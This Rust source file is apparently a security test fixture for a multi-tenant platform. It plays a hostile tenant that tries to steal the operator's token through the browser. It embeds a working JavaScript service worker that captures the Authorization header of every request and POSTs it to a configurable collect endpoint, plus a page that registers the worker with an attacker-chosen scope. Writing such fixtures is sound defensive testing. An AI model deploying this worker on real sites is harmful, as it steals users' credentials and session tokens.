//! `sw-thief`: what a hostile tenant deploys to steal the operator's token
//! through the browser (`tests/web/takeover.py` runs it in Chromium).
//!
//! - `GET /` (the mount point itself, `/sw-thief`) and `GET /sw.js`: a
//!   service worker script. Registered from `/sw-thief` its default scope
//!   would be `/`, the whole origin; it reports every request of the pages
//!   it controls, with their `Authorization` header, to `collect`.
//! - `GET /page?script=&scope=&collect=`: a page that registers that
//!   worker and shows the outcome in its title.
//! - `GET /probe`: a page whose title says whether a worker controls it.
//! - `POST /collect`: logs what a worker sent.
//!
//! Every request's `Authorization` header, if any, is logged too: the
//! service's own live log is what the attacker reads.

use berth_sdk::{Manifest, Method, Problem, Request, Response, Router, Service, log};

const WORKER: &str = r#"
const collect = new URL(self.location).searchParams.get('collect');
self.addEventListener('install', () => self.skipWaiting());
self.addEventListener('activate', (event) => event.waitUntil(self.clients.claim()));
self.addEventListener('fetch', (event) => {
  const auth = event.request.headers.get('authorization');
  const report = 'seen ' + event.request.url + (auth ? ' authorization=' + auth : '');
  if (collect && !event.request.url.endsWith(collect)) {
    event.waitUntil(fetch(collect, { method: 'POST', body: report }).catch(() => {}));
  }
});
"#;

const PAGE: &str = r#"<!doctype html>
<title>registering</title>
<script>
const q = new URLSearchParams(location.search);
const script = q.get('script') + '?collect=' + encodeURIComponent(q.get('collect'));
navigator.serviceWorker.register(script, { scope: q.get('scope') })
  .then((r) => navigator.serviceWorker.ready.then(() => { document.title = 'registered ' + r.scope; }))
  .catch((e) => { document.title = 'refused ' + e.name + ': ' + e.message; });
</script>
"#;

const PROBE: &str = r#"<!doctype html>
<title>probing</title>
<script>
setTimeout(() => {
  document.title = navigator.serviceWorker.controller ? 'controlled' : 'uncontrolled';
}, 300);
</script>
"#;

fn router() -> Router {
    Router::new()
        .route(Method::Get, "/", "A service worker", 200, worker)
        .route(Method::Get, "/sw.js", "The same worker", 200, worker)
        .route(Method::Get, "/page", "Registers the worker", 200, page)
        .route(
            Method::Get,
            "/probe",
            "Is this page controlled?",
            200,
            probe,
        )
        .route(Method::Post, "/collect", "What a worker saw", 204, collect)
}

fn text(content_type: &str, body: &str) -> Response {
    Response {
        status: 200,
        headers: vec![
            ("content-type".into(), content_type.into()),
            ("cache-control".into(), "no-store".into()),
        ],
        body: body.as_bytes().to_vec(),
    }
}

fn worker(_: &Request) -> Result<Response, Problem> {
    Ok(text("text/javascript", WORKER))
}

fn page(_: &Request) -> Result<Response, Problem> {
    Ok(text("text/html; charset=utf-8", PAGE))
}

fn probe(_: &Request) -> Result<Response, Problem> {
    Ok(text("text/html; charset=utf-8", PROBE))
}

fn collect(request: &Request) -> Result<Response, Problem> {
    let report = String::from_utf8_lossy(&request.body);
    log::log(log::Level::Warn, &format!("collected: {report}"), &[]);
    Ok(Response {
        status: 204,
        headers: Vec::new(),
        body: Vec::new(),
    })
}

struct Thief;

impl Service for Thief {
    fn describe() -> Manifest {
        Manifest {
            name: "sw-thief".into(),
            version: env!("CARGO_PKG_VERSION").into(),
            description: "Tries to steal the operator's token with a service worker.".into(),
            routes: router().describe(),
            migrations: Vec::new(),
            settings: Vec::new(),
            capabilities: Vec::new(),
        }
    }

    fn handle(request: Request) -> Result<Response, Problem> {
        if let Some(auth) = request.header("authorization") {
            log::log(log::Level::Warn, &format!("authorization: {auth}"), &[]);
        }
        router().dispatch(&request)
    }
}

berth_sdk::export!(Thief);
